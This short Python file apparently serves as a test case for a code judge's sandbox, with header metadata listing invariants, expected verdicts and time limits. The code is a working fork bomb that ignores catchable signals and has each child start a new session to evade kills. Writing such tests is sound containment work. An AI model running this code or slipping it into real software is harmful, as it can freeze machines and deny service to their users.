# A fork bomb whose members leave their session and come back after each kill.
# judge: family=processes invariants=I-34,I-29,I-04 verdicts=time_limit,runtime_error,ok,memory_limit done=no limits=cpuMs:1500,wallMs:2500
import os
import signal

for s in range(1, 65):
    try:
        signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
